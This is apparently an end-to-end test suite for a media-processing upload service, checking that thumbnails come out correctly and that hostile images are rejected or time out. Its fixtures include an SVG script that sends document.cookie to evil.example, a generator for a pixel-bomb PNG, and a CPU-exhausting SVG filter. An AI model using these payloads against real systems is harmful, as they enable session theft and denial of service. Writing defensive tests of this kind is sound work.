import { ListObjectsV2Command } from '@aws-sdk/client-s3';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { createRedis, JobQueue } from '@app/queue';
import { residentBytes, testPresigner } from '@app/testing';
import { createTenant, E2eStack, startStack, until } from './stack';
import { RawClient } from './upload-client';

// Issue #11: an SVG with a script and no `<?xml` line, and one of filters that costs seconds of CPU per image.
const SVG_WITH_SCRIPT = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>\n',
);
const SVG_OF_FILTERS = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="9990" height="9990"><filter id="f"><feTurbulence baseFrequency=".9" numOctaves="9"/><feGaussianBlur stdDeviation="99"/></filter>${'<rect width="100%" height="100%" filter="url(#f)"/>'.repeat(8)}</svg>`,
);

/** A PNG whose header claims 20000x20000 pixels, in about 100 bytes. */
function bombPng(): Buffer {
  const table = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (b: Buffer) => {
    let c = 0xffffffff;
    for (const x of b) c = table[(c ^ x) & 0xff] ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const out = Buffer.alloc(12 + data.length);
    out.writeUInt32BE(data.length, 0);
    body.copy(out, 4);
    out.writeUInt32BE(crc(body), 8 + data.length);
    return out;
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(20_000, 0);
  ihdr.writeUInt32BE(20_000, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(Buffer.alloc(64))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('images (media-processor, media-image queue)', () => {
  let stack: E2eStack;
  let client: RawClient;
  let auth: Record<string, string>;

  beforeAll(async () => {
    // A short image time limit, so the SVG below outlasts it (issue #11); real photos take milliseconds.
    stack = await startStack({ env: { IMAGE_TIMEOUT_SECONDS: '3' } });
    const tenant = await createTenant(stack, { name: 'images', allowedTypes: ['image/*'] });
    auth = { authorization: `Bearer ${tenant.apiKey}`, 'x-owner-id': 'alice' };
    client = new RawClient(stack.service('upload-api').url, auth);
  });
  afterAll(async () => {
    await stack?.stop();
  });

  const settled = (id: string, as: RawClient = client) =>
    until(
      `${id} processed`,
      async () => {
        const { body } = await as.call('GET', `/v1/uploads/${id}`);
        return ['ready', 'rejected', 'failed'].includes(body.status) ? (body.status as string) : null;
      },
      30_000,
      100,
    );

  it('a JPEG with EXIF orientation 6 becomes ready with upright thumb and preview, dimensions and a placeholder', async () => {
    const jpeg = await sharp({ create: { width: 600, height: 300, channels: 3, background: '#d42' } })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const id = await client.upload(jpeg, 'sideways.jpg', 'image/jpeg');
    expect(await settled(id)).toBe('ready');
    const file = (await client.call('GET', `/v1/files/${id}`)).body;
    expect(file).toMatchObject({ status: 'ready', detectedType: 'image/jpeg', width: 300, height: 600, placeholder: expect.any(String) });
    expect(file.variants).toEqual([
      { name: 'preview', contentType: 'image/webp', size: expect.any(Number), width: 300, height: 600 },
      { name: 'thumb', contentType: 'image/webp', size: expect.any(Number), width: 128, height: 256 },
    ]);
    const thumb = await fetch(`${stack.service('upload-api').url}/v1/files/${id}/content?variant=thumb`, { headers: auth });
    const meta = await sharp(Buffer.from(await thumb.arrayBuffer())).metadata();
    expect([meta.format, meta.width, meta.height, meta.orientation]).toEqual(['webp', 128, 256, undefined]);
  });

  it('a PNG with alpha keeps its alpha', async () => {
    const png = await sharp({ create: { width: 80, height: 40, channels: 4, background: { r: 10, g: 200, b: 10, alpha: 0.4 } } })
      .png()
      .toBuffer();
    const id = await client.upload(png, 'glass.png', 'image/png');
    expect(await settled(id)).toBe('ready');
    const thumb = await fetch(`${stack.service('upload-api').url}/v1/files/${id}/content?variant=thumb`, { headers: auth });
    expect((await sharp(Buffer.from(await thumb.arrayBuffer())).metadata()).hasAlpha).toBe(true);
  });

  it('a tiny PNG claiming 20000x20000 pixels is rejected quickly; the worker stays ready with bounded memory', async () => {
    const started = Date.now();
    const id = await client.upload(bombPng(), 'bomb.png', 'image/png');
    expect(await settled(id)).toBe('rejected');
    expect(Date.now() - started).toBeLessThan(15_000);
    const [row] = await stack.sql<{ status_reason: string }>('SELECT status_reason FROM files WHERE id = $1', [id]);
    expect(row.status_reason).toMatch(/^too_many_pixels/);
    const worker = stack.service('media-processor');
    expect((await worker.readiness()).status).toBe(200);
    const rssMiB = residentBytes(worker.pid!) / 1024 ** 2;
    expect(rssMiB).toBeLessThan(512);
  });

  it('re-running the image job gives the same variants and leaves no orphan objects', async () => {
    const png = await sharp({ create: { width: 300, height: 300, channels: 3, background: '#888' } })
      .png()
      .toBuffer();
    const id = await client.upload(png, 'again.png', 'image/png');
    expect(await settled(id)).toBe('ready');
    const [file] = await stack.sql<{ tenant_id: string }>('SELECT tenant_id FROM files WHERE id = $1', [id]);
    await stack.sql(`UPDATE files SET status = 'processing' WHERE id = $1`, [id]);
    const redis = createRedis({ REDIS_URL: stack.env.REDIS_URL, REDIS_CLUSTER: stack.env.REDIS_CLUSTER === 'true' }, 'worker');
    const jobs = new JobQueue(redis, stack.env.QUEUE_PREFIX);
    await jobs.enqueue('media.image', { v: 1, fileId: id }, { jobId: `rerun-${id}` });
    expect(await settled(id)).toBe('ready');
    await jobs.close();
    redis.disconnect();
    const variants = await stack.sql<{ name: string; storage_key: string }>('SELECT name, storage_key FROM variants WHERE file_id = $1 ORDER BY name', [id]);
    expect(variants.map((v) => v.name)).toEqual(['preview', 'thumb']);
    // Content-addressed keys (<name>.<digest>): the bucket holds exactly the two the rows name.
    const { s3 } = testPresigner(stack.storage);
    const listed = await s3.send(new ListObjectsV2Command({ Bucket: stack.storage.S3_BUCKET, Prefix: `variants/${file.tenant_id}/${id}/` }));
    expect((listed.Contents ?? []).map((o) => o.Key!).sort()).toEqual(variants.map((v) => v.storage_key).sort());
    expect(variants.map((v) => v.storage_key.split('/').pop())).toEqual([
      expect.stringMatching(/^preview\.[0-9a-f]{16}$/),
      expect.stringMatching(/^thumb\.[0-9a-f]{16}$/),
    ]);
  });
  it('an SVG with a script declared image/png is rejected as a type mismatch, never decoded (issue #11)', async () => {
    const id = await client.upload(SVG_WITH_SCRIPT, 'cat.png', 'image/png');
    expect(await settled(id)).toBe('rejected');
    const [row] = await stack.sql<{ status_reason: string; detected_type: string }>('SELECT status_reason, detected_type FROM files WHERE id = $1', [id]);
    expect(row).toEqual({ status_reason: 'type_mismatch: declared image/png, content is image/svg+xml', detected_type: 'image/svg+xml' });
  });

  it('an SVG is stored as it is, ready without variants, for a tenant that has not opted in to SVG rendering', async () => {
    const id = await client.upload(SVG_OF_FILTERS, 'noise.svg', 'image/svg+xml');
    expect(await settled(id)).toBe('ready');
    const file = (await client.call('GET', `/v1/files/${id}`)).body;
    expect(file).toMatchObject({ status: 'ready', detectedType: 'image/svg+xml', variants: [] });
  });

  it('for a tenant that allows SVG rendering, an SVG is drawn within limits, and one outlasting IMAGE_TIMEOUT_SECONDS fails without holding the worker', async () => {
    const tenant = await createTenant(stack, { name: 'vectors', allowedTypes: ['image/*'], allowSvgRendering: true });
    expect(tenant).toMatchObject({ allowSvgRendering: true });
    const vectors = new RawClient(stack.service('upload-api').url, { authorization: `Bearer ${tenant.apiKey}`, 'x-owner-id': 'bob' });
    const settledFor = (id: string) => settled(id, vectors);

    const wide = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="9990" height="4995"><rect width="100%" height="100%" fill="#36c"/></svg>');
    const drawn = await vectors.upload(wide, 'banner.svg', 'image/svg+xml');
    expect(await settledFor(drawn)).toBe('ready');
    const file = (await vectors.call('GET', `/v1/files/${drawn}`)).body;
    expect(file).toMatchObject({ detectedType: 'image/svg+xml', width: 9990, height: 4995 });
    expect(file.variants).toEqual([
      { name: 'preview', contentType: 'image/webp', size: expect.any(Number), width: 1024, height: 512 },
      { name: 'thumb', contentType: 'image/webp', size: expect.any(Number), width: 256, height: 128 },
    ]);

    const started = Date.now();
    const slow = await vectors.upload(SVG_OF_FILTERS, 'noise.svg', 'image/svg+xml');
    expect(await settledFor(slow)).toBe('failed');
    expect(Date.now() - started).toBeLessThan(15_000);
    const [row] = await stack.sql<{ status_reason: string }>('SELECT status_reason FROM files WHERE id = $1', [slow]);
    expect(row.status_reason).toMatch(/^timeout: decoding took longer than 3 s/);
    // The worker moved on: the next image is processed as usual.
    const png = await sharp({ create: { width: 40, height: 40, channels: 3, background: '#0a0' } })
      .png()
      .toBuffer();
    expect(await settledFor(await vectors.upload(png, 'after.png', 'image/png'))).toBe('ready');
  });
});
